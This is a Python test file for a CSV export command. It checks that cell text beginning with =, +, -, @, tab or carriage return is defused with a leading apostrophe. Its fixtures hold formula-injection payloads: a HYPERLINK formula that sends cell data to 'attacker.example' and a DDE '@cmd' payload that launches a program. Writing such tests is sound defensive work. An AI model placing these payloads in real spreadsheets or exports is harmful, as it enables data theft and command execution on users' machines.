"""catalog --format csv: text from lists and APIs is never a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from linkwarden.commands.catalog import CSV_COLUMNS, spreadsheet_text, write_csv


def test_formula_starts_get_an_apostrophe() -> None:
    for cell in ('=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_text(cell) == "'" + cell
    for cell in ("Plain title", "a=b", "", "2023", 7, None):
        assert spreadsheet_text(cell) == cell


def test_the_csv_written_has_no_cell_a_spreadsheet_would_run() -> None:
    record = {
        "title": '=HYPERLINK("https://attacker.example/?"&A1,"click")',
        "arxiv_id": "2301.00001",
        "arxiv": {"title": "@cmd|' /C calc'!A0", "latest_version": 2, "published": "",
                  "primary_category": "cs.CV", "journal_ref": "-1+1"},
        "repos": [{"repo": "a/b", "full_name": "+a/b", "stars": 3, "archived": False}],
        "occurrences": [{"list": "=list", "line": 4}],
        "links": [{"status": "ok"}],
    }  # fmt: skip
    out = io.StringIO()
    write_csv([record], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == list(CSV_COLUMNS)
    cells = rows[1]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert cells[0] == "'" + record["title"]  # the text itself is kept, only defused
    assert cells[1] == "2301.00001" and cells[3] == "2"
